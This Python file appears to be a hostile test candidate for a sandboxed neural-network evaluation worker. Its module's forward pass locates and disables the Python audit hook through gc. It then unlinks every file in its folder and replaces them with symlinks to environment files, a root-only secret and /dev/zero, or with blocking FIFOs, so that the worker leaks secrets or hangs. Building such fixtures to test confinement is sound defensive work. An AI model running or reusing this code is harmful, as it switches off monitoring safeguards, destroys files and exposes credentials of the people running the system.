"""Replaces every file of its folder the worker might read back (its log, the candidate file)
with a link to what only the worker may read: its environment, a root-only file, a FIFO that
blocks a reader forever, /dev/zero that never ends. Through libc, with the audit hook off; then
prints, so that the log the worker reads has something of the candidate's own."""
import ctypes
import os

import torch.nn as nn

TARGETS = ("/proc/self/environ", "/tmp/nnrag-hostile-secret", "/proc/1/environ", "/dev/zero")


def _disable_audit_hook():
    """What hostile code does first: finds the Python audit hook's state through gc and turns it off,
    so that only the kernel's confinement is left."""
    import gc
    import types

    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == "hook" and obj.__closure__:
            for cell in obj.__closure__:
                if isinstance(cell.cell_contents, dict) and "busy" in cell.cell_contents:
                    cell.cell_contents["busy"] = True


class LinksWorkerFiles(nn.Module):
    def forward(self, x):
        _disable_audit_hook()
        libc = ctypes.CDLL(None, use_errno=True)
        names = sorted(set(os.listdir(".")) | {"output.log", "candidate.py", "links_worker_files.py"})
        for i, name in enumerate(names):
            libc.unlink(name.encode())
            if i % 3 == 2:
                os.mkfifo(name)
            else:
                libc.symlink(TARGETS[i % len(TARGETS)].encode(), name.encode())
        print("linked", names, flush=True)
        return x
